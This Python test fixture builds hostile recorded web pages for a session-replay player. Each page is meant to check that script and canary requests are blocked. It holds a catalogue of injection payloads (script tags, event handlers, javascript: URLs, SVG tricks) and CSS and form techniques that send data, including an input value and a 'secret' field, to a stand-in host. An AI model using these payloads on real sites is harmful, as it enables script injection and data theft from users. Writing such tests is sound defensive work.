"""What hostile pages hold: each tries to run the script or to call the canary."""

import json
from collections.abc import Callable
from typing import Any

from tests.browser.canary import element, incremental, text
from tests.recordings import Event

_STYLE = 1000
RUN = "top.pwned = parent.pwned = window.pwned = 1; fetch('{url}/run')"
CSS = """@import url("{url}/import"); @import '{url}/import2'; @\\69mport "{url}/escaped-import";
@font-face {{ font-family: leak; src: url("{url}/font") }}
body {{ font-family: leak; background: url({url}/background); cursor: url('{url}/cursor'), auto;
  background-image: image-set("{url}/set" 1x); list-style-image: u\\72l({url}/escaped) }}
p:not([x]) {{ border-image: url( "{url}/border" ); mask-image: url({url}/mask#m) }}
input[value^="a"] {{ background: url({url}/exfiltrate?a) }}"""
DATA_PAGE = "data:text/html,<script>fetch('{url}/data')</script><img src='{url}/data-img'>"
PREFETCH = '{{"prefetch":[{{"urls":["{url}/spec"]}}]}}'
INNER = (
    "<script>{run}</script><img src='{url}/srcdoc'><link rel=stylesheet href='{url}/srcdoc-css'>"
)


def _named(tag: str, attributes: dict[str, Any]) -> dict[str, Any]:
    """Return an element with attributes that are no names in Python."""
    return element(tag) | {"attributes": attributes}


Body = Callable[[str, str], list[dict[str, Any]]]
BODIES: dict[str, Body] = {
    "scripts": lambda url, run: [
        element("script", text(run)),
        element("script", src=f"{url}/script.js"),
        element("script", type="module", src=f"{url}/module.mjs"),
        element("script", text(PREFETCH.format(url=url)), type="speculationrules"),
        element("SCRIPT", text(run)),
    ],
    "event handlers": lambda url, run: [
        element("img", src="data:image/png;base64,AA", onerror=run),
        element("img", src=f"{url}/img", onload=run, onerror=run),
        element("body", onload=run),
        element("input", autofocus="", onfocus=run),
        element("details", element("p"), open="", ontoggle=run),
        element("div", style="animation: x 1s", onanimationstart=run),
        element("marquee", text("m"), onstart=run),
        element("video", element("source", onerror=run, src=f"{url}/source")),
    ],
    "addresses that run": lambda url, run: [
        element("a", text("a"), href=f"javascript:{run}"),
        element("iframe", src=f"javascript:{run}"),
        element("form", element("button", text("go"), formaction=f"javascript:{run}")),
        element("object", data=f"javascript:{run}"),
        element("embed", src=f"javascript:{run}"),
    ],
    "frames": lambda url, run: [
        element("iframe", src=f"{url}/iframe"),
        element("iframe", src="/api/sessions"),
        element("iframe", src=DATA_PAGE.format(url=url)),
        element("iframe", srcdoc=INNER.format(run=run, url=url), sandbox="allow-scripts"),
        element("frame", src=f"{url}/frame"),
        element("object", data=f"{url}/object", type="text/html"),
        element("object", data=f"{url}/object.svg", type="image/svg+xml"),
        element("embed", src=f"{url}/embed", type="text/html"),
        element("applet", code=f"{url}/applet", archive=f"{url}/applet.jar"),
        element("portal", src=f"{url}/portal"),
    ],
    "pictures and media": lambda url, run: [
        element("img", src=f"{url}/img"),
        element("img", srcset=f"{url}/srcset 2x", rr_dataURL=f"{url}/dataurl"),
        element("picture", element("source", srcset=f"{url}/picture"), element("img")),
        element("input", type="image", src=f"{url}/input"),
        element("video", src=f"{url}/video", poster=f"{url}/poster", autoplay="", preload="auto"),
        element("audio", src=f"{url}/audio", autoplay="", rr_mediaState="played"),
        element("video", element("track", src=f"{url}/track", default="")),
        element("table", background=f"{url}/table"),
        element("canvas", rr_dataURL=f"{url}/canvas"),
        element("a", text("a"), href=f"{url}/a", ping=f"{url}/ping", attributionsrc=f"{url}/attr"),
        element("img", attributionsrc=f"{url}/attribution", src="data:image/gif;base64,R0lG"),
    ],
    "vector graphics": lambda url, run: [
        element(
            "svg",
            element("script", text(run), svg=True),
            element("image", svg=True, href=f"{url}/image"),
            _named("image", {"xlink:href": f"{url}/xlink"}) | {"isSVG": True},
            element("use", svg=True, href=f"{url}/use.svg#a"),
            element(
                "image", element("set", svg=True, attributeName="href", to=f"{url}/set"), svg=True
            ),
            element("animate", svg=True, attributeName="href", values=f"javascript:{run}"),
            element("rect", svg=True, fill=f"url({url}/fill#a)", filter=f"url({url}/filter#a)"),
            element("filter", element("feImage", svg=True, href=f"{url}/fe"), svg=True),
            element("foreignObject", element("iframe", src=f"{url}/foreign"), svg=True),
            svg=True,
            onload=run,
        ),
    ],
    "forms": lambda url, run: [
        element(
            "form",
            element("input", name="a", value="secret"),
            element(
                "button", text("go"), type="submit", autofocus="", formaction=f"{url}/formaction"
            ),
            action=f"{url}/form",
            method="post",
            target="_top",
        ),
        element("isindex", action=f"{url}/isindex"),
    ],
    "style sheets": lambda url, run: [
        element("style", text(CSS.format(url=url), style=True)),
        element("style", _cssText=CSS.format(url=url)),
        element("link", rel="stylesheet", href=f"{url}/link.css"),
        element("link", rel="stylesheet", href="/api/sessions"),
        element("div", text("d"), style=f"background: url({url}/style)"),
        element("input", value="abc", style=f"background: url('{url}/inline')"),
    ],
}
HEAD: Body = lambda url, run: [  # noqa: E731
    _named("meta", {"http-equiv": "refresh", "content": f"0;url={url}/refresh"}),
    _named("META", {"HTTP-EQUIV": "Refresh", "content": f"0;url={url}/refresh2"}),
    _named("meta", {"http-equiv": "content-security-policy", "content": "default-src *"}),
    element("base", href=f"{url}/"),
    element("link", rel="preload", href=f"{url}/preload", as_="image"),
    element("link", rel="prefetch", href=f"{url}/prefetch"),
    element("link", rel="preconnect", href=f"{url}/preconnect"),
    element("link", rel="dns-prefetch", href="//leak.example"),
    element("link", rel="modulepreload", href=f"{url}/modulepreload"),
    element("link", rel="prerender", href=f"{url}/prerender"),
    element("link", rel="icon", href=f"{url}/icon"),
    element("link", rel="manifest", href=f"{url}/manifest"),
    element("link", rel="stylesheet", href=f"{url}/head.css", _cssText=CSS.format(url=url)),
]


def changes(url: str, run: str) -> list[Event]:
    """Return what a page may do later, to the element 5 and beside it."""
    kinds = ("style sheets", "scripts", "frames", "pictures and media", "vector graphics")
    late = [node for kind in kinds for node in BODIES[kind](url, run)]
    adds = [
        {"parentId": 5, "nextId": None, "node": _with_ids(node, 1000 * n)}
        for n, node in enumerate(late, 1)
    ]
    important = [f"url({url}/attr-cursor), auto", "important"]
    style = {"background-image": f"url({url}/attr-style)", "cursor": important}
    addresses = {name: f"{url}/attr-{name}" for name in ("src", "href", "srcset", "background")}
    attributes = {**addresses, "onclick": run, "onload": run, "style": style}
    targets = [{"id": 1000 * n, "attributes": attributes} for n in range(1, len(late) + 1)]
    rule = f"body {{ background: url({url}/rule) }}"
    declaration = {"property": "background", "value": f"url({url}/declaration)"}
    sheet = {"styleId": 1, "rules": [{"rule": rule}]}
    return [
        incremental(0, adds=adds, removes=[], texts=[], attributes=[]),
        incremental(0, adds=[], removes=[], texts=[], attributes=targets, after=200),
        incremental(8, id=_STYLE, adds=[{"rule": rule, "index": 0}], after=300),
        incremental(10, family="f", fontSource=f"url({url}/face)", buffer=False, after=400),
        incremental(13, id=_STYLE, index=[0], set=declaration, after=500),
        incremental(15, id=1, styleIds=[1], styles=[sheet], after=600),
    ]


def _with_ids(node: dict[str, Any], first: int) -> dict[str, Any]:
    """Give a node that is added later ids of its own."""
    copy: dict[str, Any] = json.loads(json.dumps(node))
    waiting, number = [copy], first
    while waiting:
        one = waiting.pop(0)
        one["id"] = number
        number += 1
        waiting.extend(one.get("childNodes", []))
    return copy
